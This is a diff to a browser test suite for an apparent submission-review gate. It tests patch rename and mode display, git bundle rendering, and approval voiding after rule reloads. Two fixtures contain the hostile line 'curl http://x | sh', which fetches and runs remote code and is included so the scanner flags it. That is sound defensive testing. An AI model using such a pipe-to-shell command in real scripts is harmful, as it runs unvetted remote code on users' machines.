@@ -15,7 +15,7 @@
 // touches nothing else (but the screenshots when asked).
 
 import { spawn, execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve, dirname } from 'node:path';
@@ -57,10 +57,13 @@ async function startGate() {
 	gate.admin = execFileSync(BIN, ['init', '--data', data], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
 	if (!gate.admin)
 		throw new Error('airlock init printed no admin token');
+	// A copy of the test rules: the voided-approval test adds one and reloads.
+	gate.rules = join(gate.dir, 'rules');
+	cpSync(join(ROOT, 'tests/data/rules'), gate.rules, { recursive: true });
 	const port = await freePort();
 	gate.url = `http://127.0.0.1:${port}`;
 	gate.proc = spawn(BIN, ['serve', '--data', data, '--listen', `127.0.0.1:${port}`,
-		'--scanners', '1', '--rules', join(ROOT, 'tests/data/rules'),
+		'--scanners', '1', '--rules', gate.rules,
 		'--ui', join(ROOT, 'review-ui')], { stdio: ['ignore', 'pipe', 'pipe'] });
 	for (const s of [gate.proc.stdout, gate.proc.stderr])
 		s.on('data', (b) => gate.log.push(b.toString()));
@@ -387,6 +390,108 @@ test('binary-not-rendered', async (p) => {
 	const b = await text(p, '.binary');
 	assert(b.includes(`${bytes.length} bytes`) && b.includes(s.sha256), `binary: ${b}`);
 	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
+});
+
+// git(DIR, ...ARGS): real git in DIR (a repository of the test's own).
+function git(dir, ...a) {
+	return execFileSync('git', ['-C', dir, '-c', 'user.name=Test', '-c', 'user.email=t@example.org',
+		'-c', 'init.defaultBranch=main', ...a], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
+}
+
+function repo(name) {
+	const dir = join(gate.dir, name);
+	execFileSync('git', ['init', '-q', '-b', 'main', dir]);
+	return dir;
+}
+
+test('patch-renames-modes', async (p) => {
+	const dir = repo('renames');
+	writeFileSync(join(dir, 'a.txt'), 'alpha\nbeta\ngamma\ndelta\n');
+	writeFileSync(join(dir, 'tool.sh'), 'echo tool\n');
+	writeFileSync(join(dir, 'old.txt'), 'old\n');
+	git(dir, 'add', '.');
+	git(dir, 'commit', '-qm', 'base');
+	git(dir, 'mv', 'a.txt', 'b.txt');
+	git(dir, 'update-index', '--chmod=+x', 'tool.sh');
+	git(dir, 'rm', '-q', 'old.txt');
+	writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\necho run\n');
+	git(dir, 'add', 'run.sh');
+	git(dir, 'update-index', '--chmod=+x', 'run.sh');
+	git(dir, 'commit', '-qm', 'move, chmod, delete, add');
+	const mbox = git(dir, 'format-patch', '-1', '-M', '--stdout');
+	const s = await submit(fx.agent, mbox, 'kind=mbox&name=moves.mbox');
+	assert(s.findings.some((f) => f.rule === 'airlock.executable-mode' && f.path === 'moves.mbox!/run.sh' && f.line === 0),
+		`findings: ${JSON.stringify(s.findings.map((f) => [f.rule, f.path, f.line]))}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line.head');
+	const heads = await p.page.locator('.line.head').allInnerTexts();
+	const has = (file, what) => heads.some((h) => h.includes(file) && h.includes(what));
+	assert(heads.length === 4, `${heads.length} file heads: ${JSON.stringify(heads)}`);
+	assert(has('b.txt', 'renamed a.txt \u2192 b.txt (similarity 100%)'), `no rename: ${JSON.stringify(heads)}`);
+	assert(has('tool.sh', 'mode 100644 \u2192 100755: now an executable file'), `no mode change: ${JSON.stringify(heads)}`);
+	assert(has('old.txt', 'deleted (was a file, mode 100644)'), `no deletion: ${JSON.stringify(heads)}`);
+	assert(has('run.sh', 'new executable file (mode 100755)'), `no new file: ${JSON.stringify(heads)}`);
+	// The worrying changes are marked; the file-level finding sits on its
+	// file's head, and its link in the findings list goes there.
+	const warned = await p.page.locator('.line.head .change.warn').allInnerTexts();
+	assert(warned.length === 3 && !warned.some((w) => w.startsWith('deleted')), `marked: ${JSON.stringify(warned)}`);
+	const runHead = p.page.locator('.line.head', { hasText: 'b/run.sh' });
+	assert((await runHead.innerText()).includes('airlock.executable-mode'), 'the file-level finding is not on its head');
+	await p.page.locator('.findings li', { hasText: 'moves.mbox!/run.sh' }).locator('a').click();
+	assert(await runHead.evaluate((e) => e.classList.contains('target')), 'the finding link did not target its file head');
+	// Side by side keeps the heads.
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.split');
+	assert(await p.page.locator('.split .line.head .change').count() === 4, 'side by side lost the file changes');
+});
+
+test('bundle-commits-items', async (p) => {
+	const dir = repo('bundle');
+	writeFileSync(join(dir, 'README.md'), '# tool\n');
+	writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0xff]));
+	git(dir, 'add', '.');
+	git(dir, 'commit', '-qm', 'first: a readme and a logo');
+	writeFileSync(join(dir, 'install.sh'), '#!/bin/sh\ncurl http://x | sh\n');
+	git(dir, 'add', 'install.sh');
+	git(dir, 'update-index', '--chmod=+x', 'install.sh');
+	git(dir, 'commit', '-qm', 'second: <b>an installer</b>\n\nIt fetches the rest.');
+	git(dir, 'bundle', 'create', join(gate.dir, 'b.bundle'), 'main');
+	const { readFileSync } = await import('node:fs');
+	const s = await submit(fx.agent, readFileSync(join(gate.dir, 'b.bundle')), 'kind=bundle&name=work.bundle');
+	assert(s.kind === 'bundle' && s.worst === 'high', `the bundle: ${s.kind} ${s.worst}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('table.items');
+	// The commits, parents first, each with its message (as text).
+	const subjects = await p.page.locator('.commit h4 .subject').allInnerTexts();
+	assert(JSON.stringify(subjects) === JSON.stringify(['first: a readme and a logo', 'second: <b>an installer</b>']),
+		`commits: ${JSON.stringify(subjects)}`);
+	assert(await p.page.locator('.commit b').count() === 0, 'a commit message was rendered as HTML');
+	assert((await text(p, '.commit:nth-of-type(2)')).includes('It fetches the rest.'), 'the message body is not shown');
+	// The items: every one, the hazards marked, the binary described only.
+	const rows = await p.page.locator('table.items tbody tr').evaluateAll((rs) => rs.map((r) =>
+		Array.from(r.cells, (c) => c.textContent)));
+	const row = (name) => rows.find((r) => r[0].endsWith(`!/${name}`));
+	assert(rows.length === s.items.length, `${rows.length} rows for ${s.items.length} items`);
+	const inst = row('install.sh'), logo = row('logo.png');
+	assert(inst && inst[2] === 'executable file (100755)' && /^1 high$/.test(inst[6]), `install.sh: ${JSON.stringify(inst)}`);
+	assert(logo && logo[1] === 'image/png' && logo[5] === 'binary: described, not shown' && logo[6] === '', `logo.png: ${JSON.stringify(logo)}`);
+	const logoSha = s.items.find((it) => it.path.endsWith('!/logo.png')).sha256;
+	assert(logo[4] === `${logoSha.slice(0, 12)}\u2026`, `logo sha256 cell: ${logo[4]}`);
+	// Marked: the installer, and the commit that brought it (a commit's row
+	// counts the findings of its files).
+	const hz = await p.page.locator('table.items tr.hazard').evaluateAll((rs) => rs.map((r) => r.cells[0].textContent));
+	const second = s.items.find((it) => it.path.endsWith('!/install.sh')).path.split('!/')[1];
+	assert(JSON.stringify(hz) === JSON.stringify([second, `\u21B3 ${second}!/install.sh`]), `hazards: ${JSON.stringify(hz)}`);
+	assert(await p.page.locator('table.items td.warn').count() === 1, 'the executable mode is not marked');
+	// The flagged line, in the installer's text; no text for the logo.
+	const hit = await text(p, '.line.hit');
+	assert(hit.includes('curl http://x | sh') && hit.includes('test-curl-pipe-shell'), `marked: ${hit}`);
+	assert(!(await p.page.locator('h3.item').allInnerTexts()).some((h) => h.endsWith('logo.png')), 'the binary member was rendered');
+	// Having read it all is the review evidence: the approval is accepted.
+	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
+	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1'), 'no view recorded');
 });
 
 async function approveAs(p, tok, id) {
@@ -779,4 +884,46 @@ test('keyboard-review', async (p) => {
 	assert(JSON.stringify(d).includes('read both, fine (a test)'), 'the comment was not recorded');
 	await key('u');
 	await p.page.waitForSelector('#queue:not([hidden])');
+});
+
+// A rescan under rules that find more voids an approval: the page says whose
+// and why, and counts it no longer. Keep it the last test: it reloads the
+// gate's rules, so every held submission is scanned again under a new rule
+// set (the test waits until all are settled).
+test('voided-approval', async (p) => {
+	const s = await submit(fx.agent, 'curl http://x | sh # ZZMARKERZZ\n', 'kind=file&name=marker.sh');
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
+	await signIn(p, fx.rev2);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('#approved-by li');
+	const by = await text(p, '#approved-by');
+	assert(by.startsWith('rev-1 at 20'), `approved by: ${by}`);
+	assert(await p.page.locator('#voided').count() === 0, 'a voided list before any rescan');
+	writeFileSync(join(gate.rules, 'marker.yml'), [
+		'rules:', '  - id: test-marker', '    title: A marker added by a reload (UI test)',
+		'    category: obfuscation', '    severity: medium', "    pattern: 'ZZMARKERZZ'",
+		'    description: >', '      Added after the approval.', '    examples:',
+		"      match: ['echo ZZMARKERZZ']", "      ignore: ['echo nothing']", ''].join('\n'));
+	await must(202, 'POST', '/v1/rules/reload', gate.admin, {});
+	let d = null;
+	for (let i = 0; i < 400; i++) {
+		await sleep(50);
+		try {
+			const busy = (await api('GET', '/v1/submissions?state=received', gate.admin)).json.submissions.length +
+				(await api('GET', '/v1/submissions?state=scanning', gate.admin)).json.submissions.length;
+			d = (await api('GET', `/v1/submissions/${s.id}`, gate.admin)).json;
+			if (busy === 0 && d.state === 'held' && d.scan.ruleset !== s.scan.ruleset)
+				break;
+		} catch { /* the gate is restarting */ }
+		d = null;
+	}
+	assert(d !== null, 'not rescanned under the new rules within 20 s');
+	await p.page.reload();
+	await p.page.waitForSelector('#voided li');
+	const v = await text(p, '#voided');
+	assert(v.startsWith('rev-1 at 20') && v.includes('no longer counts') &&
+		v.includes('found 1 finding that one did not show'), `voided: ${v}`);
+	assert(/approvals 0 of 2/.test(await text(p, '#standing')), `standing: ${await text(p, '#standing')}`);
+	assert(await p.page.locator('#approved-by').count() === 0, 'a voided approval is listed as counting');
 });
